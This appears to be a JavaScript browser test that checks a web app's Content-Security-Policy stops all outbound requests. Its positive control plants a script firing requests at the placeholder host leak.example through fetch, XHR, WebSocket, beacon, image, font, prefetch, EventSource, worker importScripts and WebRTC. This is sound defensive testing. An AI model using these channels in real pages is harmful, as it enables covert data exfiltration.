// The promise that nothing leaves the page, proven with its own positive control: Chromium's whole network goes through a proxy of this
// test, which sees every way out when leaks are planted in a copy of the page, and nothing but the site's own files when they are not.
import assert from 'node:assert/strict';
import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, request as forward } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { setTimeout as pause } from 'node:timers/promises';
import { fileURLToPath } from 'node:url';
import { fileFor } from '../../scripts/serve.mjs';
import { launchChromium } from './chromium.js';
import { browsersAsked, refined, showsAnswer } from './harness.js';
import { rungAsked } from './rungs.js';

const siteFolder = fileURLToPath(new URL('../../dist/site', import.meta.url));
const elsewhere = 'leak.example';

/** Every way out of a page that browsers have, each to an address of its own. WebRTC has no address; its beginning is counted. */
const leaks = `(() => {
  const to = (kind) => 'http://${elsewhere}/' + kind;
  const plant = (kind, leak) => { try { leak(to(kind)); } catch (error) { console.error(kind + ': ' + error); } };
  plant('fetch', (url) => fetch(url, { mode: 'no-cors' }).catch(() => {}));
  plant('xhr', (url) => { const request = new XMLHttpRequest(); request.open('GET', url); request.send(); });
  plant('websocket', (url) => new WebSocket(url.replace('http', 'ws')));
  plant('beacon', (url) => navigator.sendBeacon(url, 'x'));
  plant('image', (url) => { new Image().src = url; });
  plant('font', (url) => new FontFace('Leak', 'url(' + url + ')').load().catch(() => {}));
  plant('prefetch', (url) => document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: url })));
  plant('eventsource', (url) => new EventSource(url));
  plant('importscripts', (url) => new Worker(URL.createObjectURL(new Blob(['importScripts("' + url + '")'], { type: 'text/javascript' }))));
  plant('webrtc', () => new RTCPeerConnection({ iceServers: [{ urls: 'stun:${elsewhere}:3478' }] }).createDataChannel('leak'));
})();`;
const kinds = ['fetch', 'xhr', 'websocket', 'beacon', 'image', 'font', 'prefetch', 'eventsource', 'importscripts'];

/** Counts what no proxy sees: connections from browser to browser. */
const countCalls = `{
  const Plain = globalThis.RTCPeerConnection;
  globalThis.calls = 0;
  globalThis.RTCPeerConnection = class extends Plain { constructor(...parts) { super(...parts); globalThis.calls += 1; } };
}`;

/** Chromium asks its maker for news of its own; that is not the page. @param {string} host */
const isBrowsersOwn = (host) => /(?:^|\.)(?:google|googleapis|gvt1|gstatic|googleusercontent)\.com$/.test(host);

/** A folder as any static host would serve it: no headers of ours. @param {string} folder */
const plainSite = (folder) =>
  createServer((request, response) => {
    const file = fileFor(folder, request.url ?? '/');
    const types = /** @type {Record<string, string>} */ ({ html: 'text/html', js: 'text/javascript', css: 'text/css', svg: 'image/svg+xml' });
    if (file === null) response.writeHead(404).end();
    else response.writeHead(200, { 'Content-Type': types[/\w+$/.exec(file)?.[0] ?? ''] ?? 'application/octet-stream' }).end(readFileSync(file));
  });

/** @param {import('node:http').Server} server @returns {Promise<number>} */
const listening = (server) => new Promise((done) => server.listen(0, '127.0.0.1', () => done(/** @type {import('node:net').AddressInfo} */ (server.address()).port)));

/** Notes where everything goes that comes through it, lets the site's own requests pass, and answers the others itself. @param {string[]} seen */
function createProxy(seen) {
  const proxy = createServer((request, response) => {
    const url = new URL(request.url ?? '', 'http://nowhere.invalid');
    seen.push(`${url.host}${url.pathname}`);
    if (url.hostname !== '127.0.0.1') return response.writeHead(200, { 'Content-Type': 'text/plain' }).end();
    request.pipe(forward(url, { method: request.method, headers: request.headers }, (answer) => {
      response.writeHead(answer.statusCode ?? 500, answer.headers);
      answer.pipe(response);
    }).on('error', () => response.destroy()));
  });
  // WebSockets and encrypted connections ask for a tunnel; what is inside does not matter.
  proxy.on('connect', (request, socket) => {
    seen.push(`${String(request.url).replace(/:\d+$/, '')}/websocket`);
    socket.end('HTTP/1.1 502 No\r\n\r\n');
  });
  return proxy;
}

if (browsersAsked().includes('chromium') && !rungAsked()) {
  describe('network', () => {
    /** @type {string[]} */
    const seen = [];
    const proxy = createProxy(seen);
    /** @type {Awaited<ReturnType<typeof launchChromium>>} */
    let browser;
    before(async () => {
      const port = await listening(proxy);
      browser = await launchChromium({ flags: [`--proxy-server=http://127.0.0.1:${port}`, '--proxy-bypass-list=<-loopback>'], script: countCalls });
    });
    after(async () => {
      await browser?.close();
      proxy.close();
      proxy.closeAllConnections();
    });

    /** @param {(index: string) => string} change of the page @param {(page: import('./page.js').Page, host: string) => Promise<void>} body */
    async function onCopy(change, body) {
      const folder = mkdtempSync(join(tmpdir(), 'tierwise-network-'));
      cpSync(siteFolder, folder, { recursive: true });
      writeFileSync(join(folder, 'index.html'), change(readFileSync(join(folder, 'index.html'), 'utf8')));
      writeFileSync(join(folder, 'leaks.js'), leaks);
      const site = plainSite(folder);
      const host = `127.0.0.1:${await listening(site)}`;
      const page = await browser.newPage();
      seen.length = 0;
      try {
        await page.goto(`http://${host}/#v=1&draws=512`);
        await refined(page);
        await body(page, host);
      } finally {
        await page.close();
        site.close();
        site.closeAllConnections();
        rmSync(folder, { recursive: true, force: true });
      }
    }

    const calls = (/** @type {import('./page.js').Page} */ page) => page.evaluate(() => /** @type {any} */ (globalThis).calls);
    const plant = (/** @type {string} */ page) => page.replace('</head>', '<script src="leaks.js"></script></head>');
    const unprotected = (/** @type {string} */ page) => page.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, '');
    const leaked = () => kinds.filter((kind) => seen.includes(`${elsewhere}/${kind}`));

    test('planted leaks are seen, every one of them', async () => {
      await onCopy((page) => plant(unprotected(page)), async (page) => {
        for (let tries = 0; leaked().length < kinds.length && tries < 100; tries += 1) await pause(50);
        assert.deepEqual(leaked(), kinds);
        assert.equal(await calls(page), 1, 'and the call from browser to browser');
      });
    });

    test('the page’s own policy, as a file alone carries it, lets none of them out', async () => {
      await onCopy(plant, async (page) => {
        await page.waitFor(() => /** @type {any} */ (globalThis).calls > 0, { what: 'the leaks' });
        await pause(500);
        assert.deepEqual(leaked(), []);
        const complaints = (await page.consoleErrors()).filter((text) => /Content Security Policy|Trusted|violates/.test(text));
        assert.ok(complaints.length >= kinds.length - 1, `${complaints.length} complaints`);
        assert.deepEqual(seen.filter((address) => address.startsWith(elsewhere)), []);
      });
    });

    test('the real page asks for its own files alone, whatever is done with it', async () => {
      await onCopy((page) => page, async (page, host) => {
        await page.fill('#budget', '31000');
        await showsAnswer(page, /budget=31000/);
        await page.select('#language', 'de');
        await page.select('#platform', 'tiktok');
        await showsAnswerInAnyLanguage(page);
        await page.waitFor(() => /** @type {any} */ (document.querySelector('tierwise-page')).model.analyses.compareSchemes.result, { what: 'an analysis, from a worker of its own' });
        const asked = seen.filter((address) => !isBrowsersOwn(address.replace(/\/.*$/, '')));
        const own = new RegExp(`^${host.replaceAll('.', '\\.')}/(?:assets/[\\w-]+\\.(?:js|css)|manifest\\.webmanifest|icon[\\w-]*\\.\\w+)?$`);
        assert.ok(asked.length >= 4, 'the proxy does see the page');
        assert.deepEqual(asked.filter((address) => !own.test(address)), []);
        assert.equal(await calls(page), 0);
        assert.deepEqual(await page.consoleErrors(), []);
      });
    });
  });
}

/** @param {import('./page.js').Page} page */
async function showsAnswerInAnyLanguage(page) {
  await page.waitFor(() => {
    const { model } = /** @type {any} */ (document.querySelector('tierwise-page'));
    return model.answered.platform === 'tiktok' && model.comparison.draws === model.inputs.draws;
  }, { what: 'the answer for TikTok' });
}
